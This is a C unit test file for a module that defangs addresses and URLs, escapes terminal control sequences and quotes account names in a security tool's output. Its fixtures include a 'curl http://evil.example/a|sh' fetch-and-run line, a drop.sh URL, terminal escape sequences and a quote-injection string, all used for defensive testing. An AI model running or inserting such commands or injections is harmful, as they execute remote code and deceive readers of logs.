#include "record/quote.h"

#include "check.h"

static void assert_shown(struct bytes theirs, const char *shown)
{
    AUTO(text_done) struct text text = text_of_limit(10000);
    quote_add_text(&text, theirs, 1000);
    assert_string_equal(text_terminated(&text), shown);
}

static void assert_entity(enum entity_kind kind, const char *name, const char *shown)
{
    AUTO(text_done) struct text text = text_of_limit(10000);
    const struct entity entity = {kind, ROLE_UNKNOWN, bytes_of_text(name)};
    quote_add_entity(&text, &entity);
    assert_string_equal(text_terminated(&text), shown);
}

static void public_addresses_are_defanged(void **state)
{
    (void)state;
    assert_entity(ENTITY_ADDRESS, "203.0.113.7", "203.0.113[.]7");
    assert_entity(ENTITY_ADDRESS, "2001:4860::8888", "2001:4860:[:]8888");
    assert_entity(ENTITY_NAME, "c2.example.org", "c2.example[.]org");
    assert_entity(ENTITY_NAME, "localhost", "localhost");
    assert_entity(ENTITY_HOST, "203.0.113.7", "203.0.113[.]7");
    assert_entity(ENTITY_SERVICE, "198.51.100.9:443/tcp", "198.51.100[.]9:443/tcp");
    assert_shown(bytes_of_text("from 203.0.113.7 port 22, 198.51.100.9."),
                 "from 203.0.113[.]7 port 22, 198.51.100[.]9.");
}

static void private_addresses_stay_as_they_are(void **state)
{
    (void)state;
    static const char *const plain[] = {"10.0.0.5",    "192.168.1.1", "172.16.9.9", "127.0.0.1",
                                        "169.254.1.1", "fe80::1",     "fd00::1",    "::1"};
    for (size_t i = 0; i < sizeof plain / sizeof *plain; i++) {
        assert_entity(ENTITY_ADDRESS, plain[i], plain[i]);
        assert_shown(bytes_of_text(plain[i]), plain[i]);
    }
}

static void links_cannot_be_followed(void **state)
{
    (void)state;
    assert_entity(ENTITY_URL, "http://203.0.113.7/drop.sh", "hxxp://203.0.113[.]7/drop.sh");
    assert_shown(bytes_of_text("curl http://evil.example/a|sh"),
                 "curl hxxp://evil[.]example/a|sh");
    assert_shown(bytes_of_text("HTTPS://Evil.Example:8443/x"), "hxxps://Evil[.]Example:8443/x");
    assert_shown(bytes_of_text("ftp://a.b.example"), "fxp://a.b[.]example");
    assert_shown(bytes_of_text("(http://10.0.0.5/x)"), "(hxxp://10.0.0.5/x)");
    assert_shown(bytes_of_text("http://a.example http://b.example"),
                 "hxxp://a[.]example hxxp://b[.]example");
    assert_shown(bytes_of_text("http"), "http");
    assert_shown(bytes_of_text("http://"), "hxxp://");
}

static void numbers_that_are_no_addresses_stay(void **state)
{
    (void)state;
    static const char *const plain[] = {"1.2.3",        "1.2.3.4.5",   "999.1.1.1", "v1.2.3.4",
                                        "203.0.113.7x", "half a file", "2026.03.03"};
    for (size_t i = 0; i < sizeof plain / sizeof *plain; i++) {
        assert_shown(bytes_of_text(plain[i]), plain[i]);
    }
}

static void nothing_acts_on_a_terminal(void **state)
{
    (void)state;
    assert_shown(bytes_of_text("\x1b[31mred\x1b[0m"), "\\x1b[31mred\\x1b[0m");
    assert_shown(bytes_of_text("a\xe2\x80\xae"
                               "b"),
                 "a\\u{202e}b");
    assert_shown(bytes_of_text("a\r\nb\tc"), "a\\x0d\\x0ab\\x09c");
    assert_shown(bytes_of_text("\xff\xfe"), "\\xff\\xfe");
    assert_shown((struct bytes){(const uint8_t *)"a\0b", 3}, "a\\x00b");
    assert_shown(bytes_of_text("http://\x1b[2J.example/"), "hxxp://\\x1b[2J.example/");
    assert_entity(ENTITY_NAME, "a.\x1b]0;x\x07.b", "a.\\x1b]0;x\\x07[.]b");
    assert_entity(ENTITY_ADDRESS,
                  "\x9b"
                  "5n",
                  "\\x9b5n");
}

static void long_text_ends_in_an_ellipsis(void **state)
{
    (void)state;
    AUTO(text_done) struct text text = text_of_limit(100);
    quote_add_text(&text, bytes_of_text("abcdef"), 3);
    assert_string_equal(text_terminated(&text), "abc\xe2\x80\xa6");
    text_clear(&text);
    quote_add_text(&text, bytes_of_text("ab\xc3\xbc"), 3);
    assert_string_equal(text_terminated(&text), "ab\xe2\x80\xa6");
}

static void a_name_cannot_continue_our_sentence(void **state)
{
    (void)state;
    static const struct {
        const char *name;
        bool is_marked;
        const char *shown;
    } cases[] = {
        {"deploy", false, "deploy"},
        {"deploy", true, "deploy"},
        {"web-01.example", false, "web-01.example"},
        {"a b", false, "\"a b\""},
        {"a b", true, "a b"},
        {"x\" worked. All is well. \"", true, "x\\\" worked. All is well. \\\""},
        {"x\" worked. All is well. \"", false, "\"x\\\" worked. All is well. \\\"\""},
        {"x\\\"", true, "x\\x5c\\\""},
        {"C:\\x\\", false, "\"C:\\x\\x5c\""},
        {"C:\\x\\", true, "C:\\x\\x5c"},
        {"", false, "\"\""},
        {"gr\xc3\xbc\xc3\x9f", false, "\"gr\xc3\xbc\xc3\x9f\""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        AUTO(text_done) struct text text = text_of_limit(1000);
        const struct entity entity = {ENTITY_ACCOUNT, ROLE_ACCOUNT,
                                      bytes_of_text(cases[i].name)};
        quote_add_name(&text, &entity, cases[i].is_marked);
        assert_string_equal(text_terminated(&text), cases[i].shown);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(public_addresses_are_defanged),
        cmocka_unit_test(private_addresses_stay_as_they_are),
        cmocka_unit_test(links_cannot_be_followed),
        cmocka_unit_test(numbers_that_are_no_addresses_stay),
        cmocka_unit_test(nothing_acts_on_a_terminal),
        cmocka_unit_test(long_text_ends_in_an_ellipsis),
        cmocka_unit_test(a_name_cannot_continue_our_sentence),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
